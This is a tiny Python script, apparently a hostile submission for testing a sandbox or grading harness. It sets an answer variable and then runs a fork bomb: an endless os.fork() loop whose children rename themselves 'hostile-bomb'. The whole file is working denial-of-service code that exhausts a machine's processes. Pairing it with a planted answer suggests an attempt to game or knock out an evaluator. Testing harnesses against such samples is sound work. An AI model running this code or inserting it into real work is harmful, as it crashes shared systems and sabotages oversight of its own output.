# Hostile: sets an answer, then forks without end.
import ctypes
import os

conv_a_shape = (26, 28)
libc = ctypes.CDLL(None)
while True:
    try:
        if os.fork() == 0:
            libc.prctl(15, b"hostile-bomb", 0, 0, 0)
    except OSError:
        pass
